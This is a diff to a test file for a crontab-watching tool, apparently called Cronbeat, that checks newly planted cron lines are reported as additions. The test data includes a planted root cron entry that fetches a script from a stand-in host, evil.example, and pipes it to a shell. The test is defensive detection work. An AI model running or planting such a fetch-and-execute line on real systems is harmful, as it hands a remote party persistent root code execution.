@@ -196,20 +196,21 @@ describe('a crontab line longer than an alert may be', () => {
 
 describe('a line Cronbeat reads as no job', () => {
   it("is watched all the same (some cron may run it), and one there before such lines were watched is no addition", async () => {
-    const { folder, file } = crontabFolder('0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n');
+    const { folder, file } = crontabFolder('0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n-0 2 * * * /unlogged.sh\n');
     const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
     const watchOnce = () => runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--file', file], { env });
     const first = await watchOnce();
-    expect(first.stdout).toMatch(/watching 1 cron job of 1 user/);
+    expect(first.stdout).toMatch(/watching 2 cron jobs of 1 user/);
     // The state as a watcher from before kept it: the jobs alone.
     const stateFile = join(folder, 'crontab-watch-web-7.json');
     const state = JSON.parse(readFileSync(stateFile, 'utf8'));
-    writeFileSync(stateFile, JSON.stringify({ ...state, refusedLines: undefined, jobs: state.jobs.filter((job: { refused?: true }) => !job.refused) }));
+    const before = (job: { refused?: true; text: string }) => !job.refused && !job.text.startsWith('-');
+    writeFileSync(stateFile, JSON.stringify({ ...state, refusedLines: undefined, jobs: state.jobs.filter(before) }));
     const upgraded = await watchOnce();
     expect(upgraded.status).toBe(0);
     expect(upgraded.stdout).not.toMatch(/found:/);
     // Debian's cron runs "5/20" at :05 every hour: planted so, a line must not pass unseen.
-    writeFileSync(file, '0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n5/20 * * * * root curl -s evil.example | sh\n');
+    writeFileSync(file, '0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n-0 2 * * * /unlogged.sh\n5/20 * * * * root curl -s evil.example | sh\n');
     const planted = await watchOnce();
     expect(planted.status, planted.stderr).toBe(0);
     expect(planted.stdout).toMatch(/delivered: added for \S+: 5\/20 \* \* \* \* root curl -s evil\.example \| sh\n/);
